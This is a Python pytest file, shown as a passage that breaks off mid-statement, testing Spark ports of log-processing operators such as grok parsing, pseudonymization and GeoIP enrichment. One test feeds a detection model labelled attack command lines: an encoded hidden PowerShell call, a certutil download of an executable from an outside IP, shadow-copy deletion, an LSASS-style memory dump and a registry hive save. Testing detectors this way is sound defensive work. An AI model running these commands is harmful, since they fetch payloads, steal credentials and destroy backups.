"""Per-processor given-event -> expected-event tests, modeled on the
reference's tests/unit/processor strategy."""

import re

import pytest
from pyspark.sql import functions as F

from logprep_spark.operators.pseudonymizer import pseudonymize_url

from logprep_spark.operators import (
    Amides,
    Calculator,
    Clusterer,
    Concatenator,
    DatetimeExtractor,
    Decoder,
    Deduplicator,
    Deleter,
    Dissector,
    DomainLabelExtractor,
    DomainResolver,
    Dropper,
    FieldManager,
    GenericAdder,
    GenericResolver,
    GeoipEnricher,
    Grokker,
    IpInformer,
    KeyChecker,
    Labeler,
    ListComparison,
    NetworkComparison,
    Pipeline,
    PreDetector,
    Pseudonymizer,
    Replacer,
    Requester,
    SelectiveExtractor,
    StringSplitter,
    TemplateReplacer,
    TimestampDiffer,
    Timestamper,
)


@pytest.fixture(scope="module")
def events(spark):
    return spark.createDataFrame(
        [
            (1, "error", "10.0.0.5", "2024-03-01T10:00:00Z", "0.25", "a b a c",
             "api.sub.example.co.uk", '{"k": "7"}', "GET /index.html HTTP/1.1"),
            (2, "info", "8.8.8.8", "2024-03-01T11:30:00Z", "1.5", "x y",
             "example.com", '{"k": "9"}', "POST /login HTTP/1.1"),
        ],
        "id int, level string, ip string, when string, duration string, words string, "
        "domain string, payload string, request string",
    )


def first(df, **filters):
    for k, v in filters.items():
        df = df.filter(F.col(k) == v)
    return df.first()


def test_calculator(events):
    proc = Calculator([
        {"filter": "duration", "calculator": {"calc": "${duration} * 10e5", "target_field": "micros"}}
    ])
    out = proc.transform(events)
    assert first(out, id=1).micros == 250000.0
    assert first(out, id=2).micros == 1500000.0


def test_calculator_parens_and_power(events):
    proc = Calculator([
        {"filter": "*", "calculator": {"calc": "(${id} + 1) ^ 2", "target_field": "sq"}}
    ])
    out = proc.transform(events)
    assert first(out, id=1).sq == 4.0


def test_calculator_functions_and_comparison(spark):
    df = spark.createDataFrame([(1, "0x2a", 3.0, 4.0)], "id int, hex string, a double, b double")
    proc = Calculator([
        {"filter": "*", "calculator": {"calc": "hypot(${a}, ${b})", "target_field": "h"}},
        {"filter": "*", "calculator": {"calc": "round(2.5)", "target_field": "banker"}},
        {"filter": "*", "calculator": {"calc": "from_hex(${hex})", "target_field": "n"}},
        {"filter": "*", "calculator": {"calc": "sgn(0 - ${a})", "target_field": "sign"}},
        {"filter": "*", "calculator": {"calc": "${a} + 1 > ${b}", "target_field": "gt"}},
        {"filter": "*", "calculator": {"calc": "cos(PI)", "target_field": "cospi"}},
    ])
    row = proc.transform(df).first()
    assert row.h == 5.0
    assert row.banker == 2  # Python round() half-even
    assert row.n == 42
    assert row.sign == -1
    assert row.gt is False
    assert row.cospi == -1.0


def test_calculator_missing_field_skips_write(spark):
    df = spark.createDataFrame([(1, None), (2, 7.0)], "id int, v double")
    out = Calculator([
        {"filter": "*", "calculator": {"calc": "${v} * 2", "target_field": "v2"}}
    ]).transform(df)
    assert first(out, id=1).v2 is None  # null source -> no write, event intact
    assert first(out, id=2).v2 == 14.0


def test_calculator_delete_source_fields(spark):
    df = spark.createDataFrame([(1, 2.0, 3.0)], "id int, a double, b double")
    out = Calculator([
        {"filter": "*", "calculator": {
            "calc": "${a} * ${b}", "target_field": "ab", "delete_source_fields": True}}
    ]).transform(df)
    row = out.first()
    assert row.ab == 6.0 and row.a is None and row.b is None


def test_concatenator(events):
    proc = Concatenator([
        {"filter": "*", "concatenator": {
            "source_fields": ["level", "ip"], "target_field": "combined", "separator": "|"}}
    ])
    assert first(proc.transform(events), id=1).combined == "error|10.0.0.5"


def test_datetime_extractor(events):
    proc = DatetimeExtractor([
        {"filter": "*", "datetime_extractor": {"source_fields": ["when"], "target_field": "split_when"}}
    ])
    row = first(proc.transform(events), id=1).split_when
    assert (row.year, row.month, row.day, row.hour) == (2024, 3, 1, 10)
    assert row.weekday == "Friday"


def test_decoder_json_and_base64(spark, events):
    proc = Decoder([
        {"filter": "*", "decoder": {"source_fields": ["payload"], "target_field": "decoded"}}
    ])
    assert first(proc.transform(events), id=1).decoded["k"] == "7"
    df = spark.createDataFrame([("aGVsbG8=",)], "b64 string")
    out = Decoder([{"filter": "*", "decoder": {"source_fields": ["b64"], "source_format": "base64"}}]).transform(df)
    assert out.first().b64 == "hello"


def test_decoder_clf(spark):
    line = '127.0.0.1 - frank [10/Oct/2000:13:55:36 -0700] "GET /apache_pb.gif HTTP/1.0" 200 2326'
    df = spark.createDataFrame([(line,)], "log string")
    out = Decoder([
        {"filter": "*", "decoder": {"source_fields": ["log"], "source_format": "clf", "target_field": "clf"}}
    ]).transform(df).first().clf
    assert out.host == "127.0.0.1"
    assert out.user == "frank"
    assert out.status == "200"
    assert out.size == "2326"


def test_deduplicator(spark):
    df = spark.createDataFrame([(["a", "b", "a"],)], "tags array<string>")
    out = Deduplicator([{"filter": "*", "deduplicator": {"fields": ["tags"]}}]).transform(df)
    assert out.first().tags == ["a", "b"]


def test_deleter(events):
    out = Deleter([{"filter": "level: error", "deleter": {"delete": True}}]).transform(events)
    assert [r.id for r in out.collect()] == [2]


def test_dissector(spark):
    df = spark.createDataFrame(
        [("This message has a float of 1.23 and an int of 1337",)], "message string"
    )
    proc = Dissector([
        {"filter": "message", "dissector": {
            "mapping": {"message": "%{}of %{extracted.message_float} and an int of %{extracted.message_int}"},
            "convert_datatype": {
                "extracted.message_int": "int", "extracted.message_float": "float"},
        }}
    ])
    row = proc.transform(df).first()
    assert row.extracted.message_float == 1.23
    assert row.extracted.message_int == 1337


def test_dissector_padding(spark):
    df = spark.createDataFrame([("[2022-11-04 10:00:00 AM     ] - 127.0.0.1",)], "line string")
    proc = Dissector([
        {"filter": "*", "dissector": {"mapping": {"line": "[%{time-( )}] - %{ip}"}}}
    ])
    row = proc.transform(df).first()
    assert row.time == "2022-11-04 10:00:00 AM"
    assert row.ip == "127.0.0.1"


def test_dissector_append(spark):
    df = spark.createDataFrame([("john jacob smith",)], "name string")
    proc = Dissector([
        {"filter": "*", "dissector": {
            "mapping": {"name": "%{first} %{+(, )first} %{last}"}}}
    ])
    row = proc.transform(df).first()
    assert row.first == "john, jacob"
    assert row.last == "smith"


def test_dissector_indirect_rejected(spark):
    df = spark.createDataFrame([("k v",)], "kv string")
    proc = Dissector([
        {"filter": "*", "dissector": {"mapping": {"kv": "%{?key} %{&key}"}}}
    ])
    with pytest.raises(ValueError, match="indirect"):
        proc.transform(df)


def test_domain_label_extractor(events):
    proc = DomainLabelExtractor([
        {"filter": "*", "domain_label_extractor": {"source_fields": ["domain"], "target_field": "url"}}
    ])
    out = proc.transform(events)
    r1 = first(out, id=1).url
    assert r1.registered_domain == "example.co.uk"
    assert r1.top_level_domain == "co.uk"
    assert r1.subdomain == "api.sub"
    r2 = first(out, id=2).url
    assert r2.registered_domain == "example.com"
    assert r2.subdomain == ""


def test_domain_label_extractor_ip_tag(spark):
    df = spark.createDataFrame([("8.8.8.8",)], "domain string")
    out = DomainLabelExtractor([
        {"filter": "*", "domain_label_extractor": {"source_fields": ["domain"], "target_field": "url"}}
    ]).transform(df)
    assert out.first().tags == ["ip_in_domain"]


def test_domain_resolver_stub(events):
    out = DomainResolver([
        {"filter": "*", "domain_resolver": {"source_fields": ["domain"]}}
    ]).transform(events)
    ips = {r.id: r.resolved_ip for r in out.collect()}
    assert all(ip.count(".") == 3 for ip in ips.values())
    # deterministic
    out2 = DomainResolver([
        {"filter": "*", "domain_resolver": {"source_fields": ["domain"]}}
    ]).transform(events)
    assert {r.id: r.resolved_ip for r in out2.collect()} == ips


def test_domain_resolver_table(spark, events):
    table = spark.createDataFrame([("example.com", "1.2.3.4")], "domain string, ip string")
    out = DomainResolver(
        [{"filter": "*", "domain_resolver": {"source_fields": ["domain"]}}],
        resolution_table=table,
    ).transform(events)
    assert first(out, id=2).resolved_ip == "1.2.3.4"
    assert first(out, id=1).resolved_ip is None


def test_domain_resolver_batched_once_per_distinct(spark, tmp_path):
    """Injected resolver must be invoked once per DISTINCT domain (the
    events side never drives resolve calls). Calls are counted via
    side-effect files since the callable runs in worker processes."""
    import uuid

    calls = tmp_path / "calls"
    calls.mkdir()

    def resolver(domain):
        (calls / f"{domain}-{uuid.uuid4().hex}").touch()
        return f"10.0.0.{len(domain)}"

    rows = [(i, ["a.example", "b.example", "c.example"][i % 3]) for i in range(60)]
    df = spark.createDataFrame(rows, "id long, domain string")
    out = DomainResolver(
        [{"filter": "*", "domain_resolver": {"source_fields": ["domain"]}}],
        resolver=resolver,
    ).transform(df)
    got = {r.id: r.resolved_ip for r in out.collect()}
    assert got[0] == "10.0.0.9" and len(got) == 60
    by_domain = {}
    for f in calls.iterdir():
        by_domain.setdefault(f.name.rsplit("-", 1)[0], 0)
        by_domain[f.name.rsplit("-", 1)[0]] += 1
    assert by_domain == {"a.example": 1, "b.example": 1, "c.example": 1}


def test_domain_resolver_resolver_errors_leave_null(spark):
    def resolver(domain):
        raise TimeoutError("dns timeout")

    df = spark.createDataFrame([(1, "x.example")], "id long, domain string")
    out = DomainResolver(
        [{"filter": "*", "domain_resolver": {"source_fields": ["domain"]}}],
        resolver=resolver,
    ).transform(df)
    assert out.first().resolved_ip is None


def test_dropper(events):
    out = Dropper([{"filter": "*", "dropper": {"drop": ["payload"]}}]).transform(events)
    assert "payload" not in out.columns
    out = Dropper([{"filter": "level: error", "dropper": {"drop": ["payload"]}}]).transform(events)
    assert first(out, id=1).payload is None
    assert first(out, id=2).payload is not None


def test_field_manager(events):
    out = FieldManager([
        {"filter": "*", "field_manager": {
            "source_fields": ["level"], "target_field": "event.severity_label"}}
    ]).transform(events)
    assert first(out, id=1).event.severity_label == "error"
    out = FieldManager([
        {"filter": "*", "field_manager": {
            "source_fields": ["level", "ip"], "target_field": "merged"}}
    ]).transform(events)
    assert first(out, id=1).merged == ["error", "10.0.0.5"]


def test_field_manager_widens_scalar_target(spark):
    # merging two sources into an occupied scalar target must not lose
    # the unmatched rows' scalar: both sides widen to lists
    df = spark.createDataFrame(
        [(1, "err", "10.0.0.5", "keepme"), (2, None, None, "orig")],
        "id int, level string, ip string, tgt string",
    )
    out = FieldManager([
        {"filter": "level", "field_manager": {
            "source_fields": ["level", "ip"], "target_field": "tgt"}}
    ]).transform(df)
    assert first(out, id=1).tgt == ["err", "10.0.0.5"]
    assert first(out, id=2).tgt == ["orig"]


def test_generic_adder(events):
    out = GenericAdder([
        {"filter": "level: error", "generic_adder": {"add": {"some.added_field": "some value"}}}
    ]).transform(events)
    assert first(out, id=1).some.added_field == "some value"
    assert first(out, id=2).some is None  # untouched rows: no container


def test_generic_resolver(events):
    out = GenericResolver([
        {"filter": "*", "generic_resolver": {
            "field_mapping": {"level": "level_num"},
            "resolve_list": {"^err.*": "3", "^info$": "6"}}}
    ]).transform(events)
    assert first(out, id=1).level_num == "3"
    assert first(out, id=2).level_num == "6"


def test_geoip_stub(events):
    out = GeoipEnricher([
        {"filter": "*", "geoip_enricher": {"source_fields": ["ip"]}}
    ]).transform(events)
    row = first(out, id=1).geoip
    assert row.country == "STUBLAND"
    assert len(row.coordinates) == 2


def test_tag_on_failure_grok_timestamp_decode(spark):
    """Reference base rule semantics (base/rule.py:187): events a rule
    fails to transform get tagged — default _<type>_failure, or the
    rule's tag_on_failure list."""
    df = spark.createDataFrame(
        [(1, "GET /a HTTP/1.1", "2024-06-01T10:00:00Z", '{"k": "v"}'),
         (2, "not a request",   "yesterday-ish",        "not json")],
        "id long, request string, when string, payload string",
    )
    out = Grokker([
        {"filter": "*", "grokker": {"mapping": {"request": "%{WORD:verb} %{URIPATH:path}"}}}
    ]).transform(df)
    tags = {r.id: r.tags for r in out.collect()}
    assert tags[1] is None and tags[2] == ["_grokker_failure"]

    out = Timestamper([
        {"filter": "*", "tag_on_failure": ["_badtime", "alert"],
         "timestamper": {"source_fields": ["when"], "target_field": "iso"}}
    ]).transform(df)
    tags = {r.id: r.tags for r in out.collect()}
    assert tags[1] is None and tags[2] == ["_badtime", "alert"]

    out = Decoder([
        {"filter": "*", "decoder": {"source_fields": ["payload"], "target_field": "doc"}}
    ]).transform(df)
    tags = {r.id: r.tags for r in out.collect()}
    assert tags[1] is None and tags[2] == ["_decoder_failure"]


def test_geoip_table_binned_range_join(spark):
    """geo_table enrichment: values come from the interval table, and
    the plan is a binned broadcast HASH join — never a nested loop
    over the ranges (O(events x 3M) against a real MaxMind export)."""
    geo = spark.createDataFrame(
        [
            # 10.0.0.0/8 spans many /16 bins; 192.168.1.0/24 sits in one
            (0x0A000000, 0x0AFFFFFF, "AA", "alpha", 1.0, 2.0),
            (0xC0A80100, 0xC0A801FF, "BB", "beta", 3.0, 4.0),
        ],
        "net_start long, net_end long, country string, city string, lat double, lon double",
    )
    df = spark.createDataFrame(
        [(1, "10.20.30.40"), (2, "192.168.1.77"), (3, "8.8.8.8")],
        "id long, client_ip string",
    )
    proc = GeoipEnricher(
        [{"filter": "*", "geoip_enricher": {"source_fields": ["client_ip"]}}],
        geo_table=geo,
    )
    out = proc.transform(df)
    plan = out._jdf.queryExecution().executedPlan().toString()
    assert "BroadcastNestedLoopJoin" not in plan and "CartesianProduct" not in plan
    assert "BroadcastHashJoin" in plan
    rows = {r.id: r.geoip for r in out.collect()}
    assert rows[1].country == "AA" and rows[1].coordinates == [2.0, 1.0]
    assert rows[2].country == "BB" and rows[2].city == "beta"
    assert rows[3] is None  # no covering range


def test_grokker(events):
    proc = Grokker([
        {"filter": "*", "grokker": {
            "mapping": {"request": "%{WORD:verb} %{URIPATH:path} HTTP/%{NUMBER:http.version}"}}}
    ])
    out = proc.transform(events)
    r = first(out, id=1)
    assert r.verb == "GET"
    assert r.path == "/index.html"
    assert r.http.version == "1.1"


def test_grokker_int_cast(spark):
    df = spark.createDataFrame([("took 42 ms",)], "msg string")
    out = Grokker([
        {"filter": "*", "grokker": {"mapping": {"msg": "took %{INT:took:int} ms"}}}
    ]).transform(df)
    assert out.first().took == 42


def test_ip_informer(events):
    out = IpInformer([
        {"filter": "*", "ip_informer": {"source_fields": ["ip"], "target_field": "ipinfo"}}
    ]).transform(events)
    r1 = first(out, id=1).ipinfo.ip
    assert r1.version == 4 and r1.is_private and not r1.is_global
    r2 = first(out, id=2).ipinfo.ip
    assert r2.is_global and not r2.is_private


def test_key_checker(events):
    out = KeyChecker([
        {"filter": "*", "key_checker": {
            "source_fields": ["level", "missing1", "missing2"], "target_field": "missing_fields"}}
    ]).transform(events)
    assert first(out, id=1).missing_fields == ["missing1", "missing2"]


def test_labeler(events):
    out = Labeler([
        {"filter": "level: error", "labeler": {"label": {"reporter": ["windows", "syslog"]}}}
    ]).transform(events)
    assert first(out, id=1).label.reporter == ["syslog", "windows"]
    assert first(out, id=2).label is None  # untouched rows: no container


def test_list_comparison(events):
    out = ListComparison([
        {"filter": "*", "list_comparison": {
            "source_fields": ["level"], "target_field": "level_check",
            "lists": {"bad_levels": ["error", "critical"]}}}
    ]).transform(events)
    assert first(out, id=1).level_check.in_list == ["bad_levels"]
    assert first(out, id=2).level_check.not_in_list == ["bad_levels"]


def test_network_comparison(events):
    out = NetworkComparison([
        {"filter": "*", "network_comparison": {
            "source_fields": ["ip"], "target_field": "net",
            "networks": {"internal": ["10.0.0.0/8", "192.168.0.0/16"]}}}
    ]).transform(events)
    assert first(out, id=1).net.in_network == ["internal"]
    assert first(out, id=2).net.not_in_network == ["internal"]


def test_pre_detector(events):
    proc = PreDetector(
        [{"filter": "level: error", "pre_detector": {
            "id": "rule-1", "title": "error seen", "severity": "critical",
            "mitre": ["attack.t1059"], "case_condition": "directly"}}],
        id_fields=["id"],
    )
    out = proc.transform(events)
    assert first(out, id=1).pre_detection_id is not None
    assert first(out, id=2).pre_detection_id is None
    alerts = proc.detections(events)
    assert alerts.count() == 1
    alert = alerts.first()
    assert alert.title == "error seen" and alert.severity == "critical"


def test_pseudonymizer(events):
    proc = Pseudonymizer([
        {"filter": "*", "pseudonymizer": {"mapping": {"ip": r"\d+\.\d+\.\d+\.\d+"}}}
    ])
    out = proc.transform(events)
    assert first(out, id=1).ip.startswith("<pseudonym:")
    pseudonyms = proc.pseudonyms(events)
    assert pseudonyms.count() == 2
    assert set(pseudonyms.columns) == {"pseudonym", "origin"}


def test_replacer(spark):
    df = spark.createDataFrame([("user alice logged in from 1.2.3.4",)], "message string")
    out = Replacer([
        {"filter": "*", "replacer": {
            "mapping": {"message": "user %{USER} logged in from %{IP}"}}}
    ]).transform(df)
    assert out.first().message == "user USER logged in from IP"


def test_replacer_keep_original(spark):
    df = spark.createDataFrame([("a-17-z",)], "message string")
    out = Replacer([
        {"filter": "*", "replacer": {"mapping": {"message": "a-%{*}-%{Z}"}}}
    ]).transform(df)
    assert out.first().message == "a-17-Z"


def test_requester_stub_raises(events):
    proc = Requester([
        {"filter": "*", "requester": {"url": "http://api/${level}", "target_field": "resp"}}
    ])
    with pytest.raises(NotImplementedError):
        proc.transform(events)


def test_requester_with_handler(events):
    proc = Requester(
        [{"filter": "level: error", "requester": {"url": "http://api/${level}", "target_field": "resp"}}],
        handler=lambda req: {"echo": req["url"]},
    )
    out = proc.transform(events)
    assert '"echo": "http://api/error"' in first(out, id=1).resp
    assert first(out, id=2).resp is None


def test_requester_real_http_transport(spark):
    """handler=http_handler() performs real HTTP (stdlib urllib) —
    exercised against a local ThreadingHTTPServer: GET with templated
    URL + params, POST json body, basic auth header, JSON response
    navigation via target_field_mapping."""
    import json as jsonlib
    import threading
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    from logprep_spark.operators.requester import http_handler

    seen = []

    class Handler(BaseHTTPRequestHandler):
        def _reply(self, doc):
            body = jsonlib.dumps(doc).encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_GET(self):  # noqa: N802
            seen.append(("GET", self.path, self.headers.get("Authorization")))
            self._reply({"risk": {"level": "high"}, "path": self.path})

        def do_POST(self):  # noqa: N802
            length = int(self.headers.get("Content-Length", 0))
            payload = jsonlib.loads(self.rfile.read(length) or b"{}")
            seen.append(("POST", self.path, payload))
            self._reply({"accepted": payload})

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    port = server.server_address[1]
    try:
        df = spark.createDataFrame([(1, "error"), (2, "info")], "id long, level string")
        out = Requester(
            [{"filter": "*", "requester": {
                "url": f"http://127.0.0.1:{port}/enrich/${{level}}",
                "params": {"src": "spark"},
                "auth": ["analyst", "pw"],
                "target_field": "resp",
                "target_field_mapping": {"risk.level": "risk_level"},
            }}],
            handler=http_handler(),
        ).transform(df).collect()
        got = {r.id: r for r in out}
        assert got[1].risk_level == "high"
        assert '"path": "/enrich/error?src=spark"' in got[1].resp
        assert got[2].risk_level == "high"  # filter * matches both
        methods = {m for m, _, _ in seen}
        assert methods == {"GET"}
        assert all(a == "Basic YW5hbHlzdDpwdw==" for _, _, a in seen)

        post = Requester(
            [{"filter": "id: 1", "requester": {
                "method": "POST",
                "url": f"http://127.0.0.1:{port}/submit",
                "json": {"event": "${level}"},
                "target_field": "resp",
            }}],
            handler=http_handler(),
        ).transform(df).collect()
        resp = jsonlib.loads({r.id: r for r in post}[1].resp)
        assert resp["accepted"] == {"event": "error"}
    finally:
        server.shutdown()
        server.server_close()


def test_selective_extractor(events):
    proc = SelectiveExtractor([
        {"filter": "level: error", "selective_extractor": {
            "source_fields": ["id", "ip"], "outputs": [{"kafka": "extracts"}]}}
    ])
    extracted = proc.extracted(events)["extracts"]
    assert extracted.columns == ["id", "ip"]
    assert extracted.count() == 1


def test_string_splitter(events):
    out = StringSplitter([
        {"filter": "*", "string_splitter": {"source_fields": ["words"], "target_field": "word_list"}}
    ]).transform(events)
    assert first(out, id=1).word_list == ["a", "b", "a", "c"]


def test_template_replacer(events):
    proc = TemplateReplacer(
        template={("error",): "Something went wrong"},
        pattern_keys=["level"],
        target_field="message_tpl",
    )
    out = proc.transform(events)
    assert first(out, id=1).message_tpl == "Something went wrong"
    assert first(out, id=2).message_tpl is None


def test_timestamper(events):
    out = Timestamper([
        {"filter": "*", "timestamper": {"source_fields": ["when"]}}
    ]).transform(events)
    assert first(out, id=1)["@timestamp"] == "2024-03-01T10:00:00.000Z"


def test_timestamper_unix(spark):
    df = spark.createDataFrame([("1709287200",)], "epoch string")
    out = Timestamper([
        {"filter": "*", "timestamper": {"source_fields": ["epoch"], "source_format": ["UNIX"]}}
    ]).transform(df)
    assert out.first()["@timestamp"] == "2024-03-01T10:00:00.000Z"


def test_timestamp_differ(spark):
    df = spark.createDataFrame(
        [("2024-03-01 10:00:12", "2024-03-01 10:00:00")], "end string, start string"
    )
    out = TimestampDiffer([
        {"filter": "*", "timestamp_differ": {
            "diff": "${end} - ${start}", "target_field": "delta",
            "output_format": "milliseconds", "show_unit": True}}
    ]).transform(df)
    assert out.first().delta == "12000.0 ms"


def test_amides_model_scores(events):
    out = Amides([
        {"filter": "*", "amides": {"source_fields": ["request"]}}
    ]).transform(events)
    score = first(out, id=1).amides.confidence
    assert 0.0 <= score < 1.0


def test_amides_separates_malicious_from_benign(spark):
    """The in-repo trained model (tools/train_amides.py) must score
    known attack command lines above benign ones — including unseen
    variants, not just training rows."""
    malicious = [
        "powershell.exe -nop -w hidden -enc aQBlAHgA",
        "certutil.exe -urlcache -split -f http://198.51.100.7/x.exe x.exe",
        "vssadmin delete shadows /all /quiet",
        "rundll32.exe comsvcs.dll, MiniDump 512 c:\\temp\\out.dmp full",
        "reg save hklm\\security c:\\temp\\security.hive",
    ]
    benign = [
        "c:\\windows\\system32\\svchost.exe -k utcsvc -p",
        "git push origin feature/login-page",
        "python -m pytest tests/unit -q",
        "c:\\program files\\google\\chrome\\application\\chrome.exe --type=gpu-process",
        "robocopy c:\\data d:\\backup /mir",
    ]
    df = spark.createDataFrame(
        [(c, 1) for c in malicious] + [(c, 0) for c in benign],
        "cmdline string, label int",
    )
    out = Amides([
        {"filter": "*", "amides": {"source_fields": ["cmdline"],
                                   "decision_threshold": 0.5}}
    ]).transform(df)
    rows = out.select("label", "amides").collect()
    for r in rows:
        assert r.amides.malicious == (r.label == 1), r
        if r.label == 1:
            assert r.amides.confidence > 0.5
        else:
            assert r.amides.confidence < 0.5


def test_amides_margin_matches_model_closed_form():
    """The pandas_udf path and the plain-Python closed form agree —
    the same invariant the DuckDB oracle checks cross-engine."""
    from logprep_spark.operators.amides import load_model, margin_micros, normalize

    model = load_model()
    assert model["dim"] == len(model["weights_micros"])
    # normalizer parity with the reference CommandLineNormalizer
    # dummy chars stripped BEFORE tokenizing (quotes don't split words);
    # long hex/numeric tokens dropped
    assert normalize('po"wer^shell -Enc deadbeef 12345') == ["powershell", "enc"]
    assert isinstance(margin_micros("whoami /priv", model), int)


def test_clusterer(spark):
    df = spark.createDataFrame(
        [("connection from 10.1.2.3 failed after 300 ms",),
         ("connection from 10.9.8.7 failed after 42 ms",)],
        "message string",
    )
    out = Clusterer([{"filter": "*", "clusterer": {}}]).transform(df)
    sigs = {r.cluster_signature for r in out.collect()}
    assert sigs == {"connection from <ip> failed after <num> ms"}


def test_pipeline_compose(events):
    pipeline = Pipeline([
        Calculator([{"filter": "*", "calculator": {"calc": "${id} * 2", "target_field": "id2"}}]),
        Concatenator([{"filter": "*", "concatenator": {
            "source_fields": ["level", "id2"], "target_field": "tag_str", "separator": "#"}}]),
        Deleter([{"filter": "level: info", "deleter": {"delete": True}}]),
    ])
    out = pipeline.transform(events)
    rows = out.collect()
    assert len(rows) == 1
    assert rows[0].tag_str == "error#2.0"


def test_grokker_java_syslog_and_pattern_dir(spark, tmp_path):
    (tmp_path / "extra.patterns").write_text("# comment\nMYID [a-f0-9]{8}\n")
    df = spark.createDataFrame(
        [("at com.example.Main.run(Main.java:42)", "deadbeef")], "st string, idv string"
    )
    out = Grokker(
        [
            {"filter": "*", "grokker": {"mapping": {"st": "%{JAVASTACKTRACEPART}"}}},
            {"filter": "*", "grokker": {"mapping": {"idv": "%{MYID:found_id}"}}},
        ],
        custom_patterns_dir=str(tmp_path),
    ).transform(df)
    row = out.first()
    # library patterns with internal alternation groups must not shift
    # the capture-group indexes of later targets
    assert (row.asDict()["class"], row.method, row.file, row.line) == (
        "com.example.Main", "run", "Main.java", "42",
    )
    assert row.found_id == "deadbeef"


def test_grokker_literal_groups_do_not_shift_indices(spark):
    """Literal '(' capture groups in raw segments and custom pattern
    bodies are neutralized, so %{}-ref group indices never shift."""
    df = spark.createDataFrame([("INFO hello (extra) 42 end",)], "msg string")
    out = Grokker(
        [{"filter": "*", "grokker": {
            "mapping": {"msg": r"%{LOGLEVEL:lvl} %{WORD:word} \((\w+)\) %{INT:num:int} (end|stop)"},
        }}]
    ).transform(df)
    row = out.first()
    assert (row.lvl, row.word, row.num) == ("INFO", "hello", 42)


def test_grokker_inline_named_group(spark):
    """(?<field>...) inline capture syntax (grok spec) targets a field,
    ordered correctly against %{} refs."""
    df = spark.createDataFrame([("host42 GET /x",)], "msg string")
    out = Grokker(
        [{"filter": "*", "grokker": {
            "mapping": {"msg": r"(?<hostid>host\d+) %{WORD:verb} %{NOTSPACE:path}"}}}]
    ).transform(df)
    row = out.first()
    assert (row.hostid, row.verb, row.path) == ("host42", "GET", "/x")


def test_grokker_vendored_httpd_and_syslog(spark):
    """Vendored pattern library: HTTPD_COMMONLOG and SYSLOGLINE resolve
    without custom patterns and extract their composite targets."""
    access = '192.168.1.1 - bob [10/Oct/2025:13:55:36 -0700] "GET /idx HTTP/1.1" 200 1234'
    syslog = "Oct 11 22:14:15 myhost sshd[1234]: Accepted password for root"
    df = spark.createDataFrame([(access, syslog)], "a string, s string")
    out = Grokker(
        [
            {"filter": "*", "grokker": {"mapping": {"a": "%{HTTPD_COMMONLOG}"}}},
            {"filter": "*", "grokker": {"mapping": {"s": "%{SYSLOGLINE}"}}},
        ]
    ).transform(df)
    row = out.first()
    assert (row.clientip, row.auth, row.verb, row.response, row.bytes) == (
        "192.168.1.1", "bob", "GET", "200", "1234",
    )
    assert (row.logsource, row.program, row.pid) == ("myhost", "sshd", "1234")
    assert row.message == "Accepted password for root"


def test_grokker_ecs_bracket_targets(spark):
    """ECS-style [a][b] target paths become nested dotted fields."""
    access = '1.2.3.4 - alice [10/Oct/2025:13:55:36 -0700] "GET /p HTTP/1.1" 404 7'
    df = spark.createDataFrame([(access,)], "a string")
    out = Grokker(
        [{"filter": "*", "grokker": {"mapping": {"a": "%{ECS_HTTPD_COMMONLOG}"}}}]
    ).transform(df)
    row = out.first()
    assert row.source.asDict()["address"] == "1.2.3.4"
    assert row.http.asDict()["response"].asDict()["status_code"] == "404"


def test_pseudonymizer_capture_groups_only(spark):
    """Only captured substrings are replaced (reference
    _pseudonymize_field); surrounding text stays intact. Repeated
    occurrences of a captured value are all replaced."""
    df = spark.createDataFrame(
        [(1, "login alice from 1.2.3.4; alice again")], "id long, msg string"
    )
    proc = Pseudonymizer(
        [{"filter": "*", "pseudonymizer": {"mapping": {"msg": r"login (\w+) from"}}}]
    )
    row = proc.transform(df).first()
    assert row.msg.startswith("login <pseudonym:")
    assert row.msg.endswith("> again")  # second 'alice' replaced too
    assert " from 1.2.3.4; " in row.msg
    assert "alice" not in row.msg
    ps = proc.pseudonyms(df).collect()
    assert [p.origin for p in ps] == ["alice"]


def test_pseudonymizer_multi_group_and_substring_order(spark):
    """Multiple capture groups all collect; a value that is a substring
    of another (bob ⊂ bobby) must not clobber the longer one."""
    df = spark.createDataFrame([(1, "u=bobby v=bob")], "id long, msg string")
    proc = Pseudonymizer(
        [{"filter": "*", "pseudonymizer": {"mapping": {"msg": r"u=(\w+) v=(\w+)"}}}]
    )
    row = proc.transform(df).first()
    assert row.msg.count("<pseudonym:") == 2
    assert "bob" not in row.msg
    origins = {p.origin for p in proc.pseudonyms(df).collect()}
    assert origins == {"bobby", "bob"}


def test_pseudonymizer_encrypt_mode_round_trip(spark):
    """mode='encrypt' pseudonyms are reversible with the same secret
    (reference encrypter.py reversibility contract, AES via Spark
    builtins)."""
    df = spark.createDataFrame([(1, "user=alice action=login")], "id long, msg string")
    proc = Pseudonymizer(
        [{"filter": "*", "pseudonymizer": {"mapping": {"msg": r"user=(\w+) "}}}],
        secret="s3cret",
        mode="encrypt",
    )
    masked = proc.transform(df)
    mrow = masked.first()
    assert "alice" not in mrow.msg and "<pseudonym:" in mrow.msg
    restored = proc.depseudonymize(masked, "msg").first()
    assert restored.msg == "user=alice action=login"
    # determinism: same origin → same pseudonym (reference cache semantics)
    again = proc.transform(df).first()
    assert again.msg == mrow.msg


def test_pseudonymizer_hybrid_dual_key_round_trip(spark):
    """mode='hybrid' (reference DualPKCS1HybridGCMEncrypter structure):
    per-row session key, dual-wrapped — BOTH parties' keys recover the
    origin, either key alone recovers nothing."""
    from logprep_spark.operators.pseudonymizer import hybrid_decrypt

    df = spark.createDataFrame(
        [(1, "user=alice action=login"), (2, "user=alice action=logout")],
        "id long, msg string",
    )
    proc = Pseudonymizer(
        [{"filter": "*", "pseudonymizer": {"mapping": {"msg": r"user=(\w+) "}}}],
        secret="analyst-key",
        mode="hybrid",
        depseudo_secret="depseudo-key",
    )
    masked = proc.transform(df)
    rows = {r.id: r.msg for r in masked.collect()}
    assert all("alice" not in m and "<pseudonym:" in m for m in rows.values())
    # NON-deterministic by design: fresh session key per row
    assert rows[1] != rows[2]

    restored = {r.id: r.msg for r in proc.depseudonymize(masked, "msg").collect()}
    assert restored[1] == "user=alice action=login"
    assert restored[2] == "user=alice action=logout"

    # either key alone must NOT decrypt: GCM auth fails -> NULL
    token = rows[1].split("<pseudonym:")[1].split(">")[0]
    tdf = spark.createDataFrame([(token,)], "tok string")
    one_key = tdf.select(
